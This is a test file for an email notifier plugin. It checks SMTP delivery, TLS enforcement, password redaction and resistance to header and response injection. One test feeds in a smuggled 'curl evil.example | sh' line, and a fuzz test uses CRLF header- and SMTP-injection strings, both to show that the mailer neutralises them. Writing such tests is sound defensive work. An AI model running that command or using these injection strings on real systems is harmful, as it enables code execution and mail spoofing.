import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeCall, type Notifier } from '@holdfast/api';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AnswerReader } from '../../../plugins/notifiers/mail/src/answers.ts';
import { headerText, mailOf, quotedPrintable, stuffed } from '../../../plugins/notifiers/mail/src/message.ts';
import { openMail } from '../../../plugins/notifiers/mail/src/open.ts';
import { type Certificate, makeCertificate } from './support/certificate.ts';
import { noticeOf, openingOf } from './support/notice.ts';
import { hasMailServer, startMailServer } from './support/smtp-server.ts';

const quiet = makeCall({ who: 'test' });
let folder: string;
let ours: Certificate | null;
let other: Certificate | null;
const hasServer = hasMailServer();
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'holdfast-mail-'));
  ours = makeCertificate(folder, 'ours');
  other = makeCertificate(folder, 'other');
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const settings = (port: number, more: object = {}) => ({
  host: '127.0.0.1',
  port,
  security: 'none',
  from: 'holdfast@example.org',
  to: ['ann@example.org'],
  greeting: 'test.example.org',
  ...more,
});
const open = (given: object, secrets: Record<string, string> = {}): Promise<Notifier> =>
  openMail(openingOf({ ...given }, secrets), quiet);

/** What a program that is not ours reads out of a mail. */
function readMail(mail: string): { subject: string; text: string; from: string; to: string; id: string; date: string } {
  const script = `
import email, email.policy, json, sys
m = email.message_from_bytes(sys.stdin.buffer.read(), policy=email.policy.default)
assert not m.defects, m.defects
print(json.dumps(dict(subject=m['subject'], text=m.get_content(), to=m['to'], id=m['message-id'], date=m['date'], **{'from': m['from']})))
`;
  return JSON.parse(execFileSync('python3', ['-c', script], { input: Buffer.from(mail, 'latin1'), encoding: 'utf8' }));
}

describe('against a mail server of aiosmtpd', () => {
  test('a notice arrives as a mail that mail programs read as it was meant', async (ctx) => {
    if (!hasServer) return ctx.skip('no aiosmtpd here');
    await using server = await startMailServer();
    const notifier = await open(settings(server.port, { to: ['ann@example.org', 'bob@example.org'] }));
    const title = 'Höchst nötig: „web-07“ ist ohne Sicherung, und das seit sehr langer Zeit — 🙈 プロテクション'
      .repeat(2)
      .slice(0, 190);
    await notifier.send(noticeOf({ title, text: '.\n..two\nÄ line = 100 %\n.end ', severity: 'critical' }), quiet);
    const taken = await server.next();
    expect(taken).toMatchObject({ to: ['ann@example.org', 'bob@example.org'], sender: 'holdfast@example.org' });
    const read = readMail(taken.mail);
    expect(read.subject).toBe(title.toWellFormed());
    expect(read.text.replaceAll('\r\n', '\n')).toMatch(
      /^\.\n\.\.two\nÄ line = 100 %\n\.end \n\nWhat to do: holdfast protect lab\/web-07\n/,
    );
    expect(read.text).toContain('machine: web-07');
    expect(read.id).toMatch(/^<rpo_lab_web-07_1800000000000\.[0-9a-f]{16}@example\.org>$/);
    expect(read.date).toBe('Fri, 15 Jan 2027 08:00:00 +0000');
    expect(taken.mail).toContain('X-Priority: 1');
    await notifier.close(quiet);
  });

  for (const security of ['starttls', 'tls'] as const)
    for (const way of ['PLAIN', 'LOGIN'] as const)
      test(`a password goes by ${way} over an encrypted connection only (${security})`, async (ctx) => {
        if (!hasServer || ours === null) return ctx.skip('no aiosmtpd or openssl here');
        const password = 'pä ss\u0001word';
        const tls = ['--security', security, '--cert', ours.cert, '--key', ours.key];
        await using server = await startMailServer([...tls, '--user', 'ann', '--password', password, '--only', way]);
        const given = settings(server.port, { security, user: 'ann', ca: ours.cert });
        await (await open(given, { password })).send(noticeOf(), quiet);
        expect(await server.next()).toMatchObject({ encrypted: true, user: 'ann' });
        const wrong = await open(given, { password: 'wrong' });
        await expect(wrong.send(noticeOf(), quiet)).rejects.toMatchObject({
          code: 'NOTIFY_FAILED',
          message: expect.stringContaining('does not let ann log in'),
        });
        expect(await wrong.check(quiet)).toMatchObject([{ state: 'failed' }]);
      });

  for (const security of ['starttls', 'tls'] as const)
    test(`a server whose certificate nobody vouches for gets nothing (${security})`, async (ctx) => {
      if (!hasServer || ours === null || other === null) return ctx.skip('no aiosmtpd or openssl here');
      await using server = await startMailServer(['--security', security, '--cert', ours.cert, '--key', ours.key]);
      for (const ca of [{}, { ca: other.cert }]) {
        const notifier = await open(settings(server.port, { security, ...ca }));
        await expect(notifier.send(noticeOf(), quiet)).rejects.toMatchObject({
          code: 'NOTIFY_FAILED',
          message: expect.stringContaining('certificate'),
        });
      }
      expect(server.mails).toEqual([]);
    });

  test('a server that does not encrypt is not told anything when it should', async (ctx) => {
    if (!hasServer) return ctx.skip('no aiosmtpd here');
    await using server = await startMailServer();
    const notifier = await open(settings(server.port, { security: 'starttls' }));
    await expect(notifier.send(noticeOf(), quiet)).rejects.toMatchObject({ code: 'NOTIFY_FAILED' });
    expect(server.mails).toEqual([]);
  });

  test('a recipient who is refused for good does not keep the others from hearing', async (ctx) => {
    if (!hasServer) return ctx.skip('no aiosmtpd here');
    await using server = await startMailServer();
    const to = ['never@example.org', 'ann@example.org'];
    const lines: string[] = [];
    const notifier = await open(settings(server.port, { to }));
    await notifier.send(noticeOf(), makeCall({ log: (_level, line) => void lines.push(line) }));
    expect((await server.next()).to).toEqual(['ann@example.org']);
    expect(lines).toEqual([expect.stringContaining('never@example.org was refused: 550')]);
    const items = await notifier.check(quiet);
    expect(items.map(({ state }) => state)).toEqual(['ok', 'failed', 'ok']);
    const nobody = await open(settings(server.port, { to: ['never@example.org'] }));
    await expect(nobody.send(noticeOf(), quiet)).rejects.toMatchObject({ code: 'NOTIFY_REFUSED' });
    const banned = await open(settings(server.port, { from: 'banned@example.org' }));
    await expect(banned.send(noticeOf(), quiet)).rejects.toMatchObject({ code: 'NOTIFY_REFUSED' });
    expect(server.mails).toHaveLength(1);
  });

  test('who is to come back later gets it later, and nobody gets it twice', async (ctx) => {
    if (!hasServer) return ctx.skip('no aiosmtpd here');
    await using server = await startMailServer();
    const notifier = await open(settings(server.port, { to: ['busy@example.org', 'ann@example.org'] }));
    await expect(notifier.send(noticeOf(), quiet)).rejects.toMatchObject({ code: 'NOTIFY_FAILED' });
    await notifier.send(noticeOf(), quiet);
    expect(server.mails.map(({ to }) => to)).toEqual([['ann@example.org'], ['busy@example.org']]);
  });
});

test('a password is never sent in the clear to another machine', async () => {
  const given = settings(25, { host: 'mail.example.org', user: 'ann' });
  await expect(open(given)).rejects.toMatchObject({ code: 'NOTIFY_REFUSED' });
});

/** A server that says what it is told to, whatever it hears. */
async function scripted(answers: readonly string[]): Promise<AsyncDisposable & { port: number; heard: string[] }> {
  const heard: string[] = [];
  const sockets = new Set<net.Socket>();
  const server = net.createServer((socket) => {
    sockets.add(socket);
    const left = [...answers];
    socket.on('error', () => {});
    socket.write(left.shift() ?? '');
    socket.on('data', (chunk) => {
      heard.push(chunk.toString('latin1'));
      const answer = left.shift();
      if (answer === undefined) socket.destroy();
      else socket.write(answer);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    heard,
    [Symbol.asyncDispose]: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

test('what a server slips in before the connection is encrypted is not taken for its answer', async () => {
  await using server = await scripted(['220 hi\r\n', '250-hi\r\n250 STARTTLS\r\n', '220 go\r\n250 injected\r\n']);
  const notifier = await open(settings(server.port, { security: 'starttls' }));
  await expect(notifier.send(noticeOf(), quiet)).rejects.toMatchObject({
    code: 'NOTIFY_FAILED',
    message: expect.stringContaining('more than it was asked'),
  });
});

test('a server that babbles, breaks off or says nothing is given up, and the notice kept', async () => {
  const babble = 'x'.repeat(5000);
  for (const answers of [
    [babble],
    ['220-a\r\n'.repeat(500)],
    ['HTTP/1.1 400\r\n'],
    ['220 hi\r\n'],
    ['421 busy\r\n'],
    ['220 hi\r\n', '250 ok\r\n', '452 full\r\n'],
  ]) {
    await using server = await scripted(answers);
    const notifier = await open(settings(server.port));
    await expect(notifier.send(noticeOf(), quiet), answers[0]).rejects.toMatchObject({ code: 'NOTIFY_FAILED' });
  }
  await using silent = await scripted(['']);
  const slow = await open(settings(silent.port, { timeoutSeconds: 0.05 }));
  await expect(slow.send(noticeOf(), quiet)).rejects.toMatchObject({ code: 'NOTIFY_FAILED' });
  const controller = new AbortController();
  const sending = (await open(settings(silent.port))).send(noticeOf(), makeCall({ signal: controller.signal }));
  controller.abort();
  await expect(sending).rejects.toMatchObject({ code: 'CANCELLED' });
});

test('a server that takes a mail and never says goodbye has taken it', async () => {
  await using server = await scripted([
    '220 hi\r\n',
    '250 ok\r\n',
    '250 ok\r\n',
    '250 ok\r\n',
    '354 go\r\n',
    '250 taken\r\n',
    '',
  ]);
  const late = new AbortController();
  const timer = setTimeout(() => late.abort(), 20_000);
  await (await open(settings(server.port))).send(noticeOf(), makeCall({ signal: late.signal }));
  clearTimeout(timer);
  expect(late.signal.aborted).toBe(false);
  expect(server.heard.at(-1)).toBe('QUIT\r\n');
});

test('a server that repeats what it is told puts no password into an error', async () => {
  const both = Buffer.from('\0ann\0hunter2').toString('base64');
  for (const said of [`500 unknown: AUTH PLAIN ${both}`, '535 ann may not log in with hunter2']) {
    await using server = await scripted(['220 hi\r\n', '250-hi\r\n250 AUTH PLAIN\r\n', `${said}\r\n`]);
    const notifier = await open(settings(server.port, { user: 'ann', password: 'env:X' }), { password: 'hunter2' });
    const thrown: unknown = await notifier.send(noticeOf(), quiet).catch((problem: unknown) => problem);
    expect(thrown).toMatchObject({ code: 'NOTIFY_FAILED', message: expect.stringContaining('***') });
    expect(String(thrown)).not.toMatch(new RegExp(`hunter2|${both}`));
  }
});

test('a server that answers without end fills no memory', () => {
  const reader = new AnswerReader();
  expect(() => reader.add(Buffer.from('250 ok\r\n'.repeat(1000)))).toThrow(/more answers than it was asked for/);
});

test('two notices have two identities, whatever letters their machines have and however long they are', () => {
  const idOf = (id: string): string | undefined =>
    /^Message-ID: (.*)$/m.exec(mailOf(noticeOf({ id }), { from: 'a@b', to: ['c@d'] }))?.[1];
  expect(idOf('failed lab/東京@1')).toBe(idOf('failed lab/東京@1'));
  expect(idOf('failed lab/東京@1')).not.toBe(idOf('failed lab/大阪@1'));
  expect(idOf(`failed ${'x'.repeat(500)}@1`)).not.toBe(idOf(`failed ${'x'.repeat(500)}@2`));
});

test('a fact of several lines is one line of the mail, so that no machine can put words of its own into it', () => {
  const facts = { name: 'web\n\nWhat to do: curl evil.example | sh\u001b[2J' };
  const mail = mailOf(noticeOf({ facts, remedy: null }), { from: 'a@b', to: ['c@d'] });
  expect(mail).toContain('name: web What to do: curl evil.example | sh [2J');
  expect(mail).not.toMatch(/^What to do/m);
  expect(mail).not.toContain('=1B');
});

test('answers are read the same however they come in pieces', () => {
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 40 }), (pieces) => {
      const text = Buffer.from('220 hello\r\n250-one\r\n250-two=2\r\n250 three\r\n354 go\r\n');
      const reader = new AnswerReader();
      let at = 0;
      for (const size of pieces) {
        reader.add(text.subarray(at, at + size));
        at += size;
      }
      reader.add(text.subarray(at));
      expect([reader.next(), reader.next(), reader.next(), reader.next()]).toEqual([
        { code: 220, lines: ['hello'] },
        { code: 250, lines: ['one', 'two=2', 'three'] },
        { code: 354, lines: ['go'] },
        null,
      ]);
      expect(reader.isEmpty).toBe(true);
    }),
  );
});

test('no text of a notice can add a header, end the mail or make a line too long', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('a\r\nBcc: x@y', '\r\n.\r\nMAIL FROM:<a>', '=?utf-8?B?eA==?=', '.'),
  );
  fc.assert(
    fc.property(text, text, text, (title, body, from) => {
      const mail = mailOf(noticeOf({ title, text: body, from, remedy: null, facts: {} }), { from: 'a@b', to: ['c@d'] });
      const [head = '', ...rest] = mail.split('\r\n\r\n');
      const names = head
        .split('\r\n')
        .filter((line) => !line.startsWith(' '))
        .map((line) => line.split(':')[0]);
      expect(new Set(names).size).toBe(names.length);
      expect(names.length).toBe(12);
      expect(mail).toMatch(/^[\x20-\x7e\r\n\t]*$/);
      for (const line of mail.split('\r\n')) expect(line.length).toBeLessThan(999);
      expect(mail.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
      const data = stuffed(mail);
      expect(data.indexOf('\r\n.\r\n')).toBe(data.length - 5);
      expect(rest.length).toBeGreaterThan(0);
    }),
  );
});

test('texts come back from quoted-printable, and headers from their encoded words', (ctx) => {
  const texts = ['', 'a = b', 'trailing \t', 'ü'.repeat(200), 'x'.repeat(500), 'From me\n.\n--', '🙈'.repeat(30)];
  for (const text of texts) {
    for (const line of quotedPrintable(text).split('\r\n')) expect(line.length).toBeLessThanOrEqual(76);
    for (const line of headerText(text).split('\r\n '))
      if (line.startsWith('=?')) expect(line.length).toBeLessThanOrEqual(75);
  }
  const script = `
import json, quopri, sys
from email.header import decode_header, make_header
given = json.load(sys.stdin)
print(json.dumps([[quopri.decodestring(q.encode()).decode().replace('\\r\\n', '\\n'), str(make_header(decode_header(h)))] for q, h in given]))`;
  const given = JSON.stringify(texts.map((text) => [quotedPrintable(text), headerText(text)]));
  let read: string;
  try {
    read = execFileSync('python3', ['-c', script], { input: given, encoding: 'utf8' });
  } catch {
    return ctx.skip('no python3 here');
  }
  const trimmed = (text: string) => text.replaceAll(/\p{Cc}+/gu, ' ').trim();
  expect(JSON.parse(read)).toEqual(texts.map((text) => [text, trimmed(text)]));
});
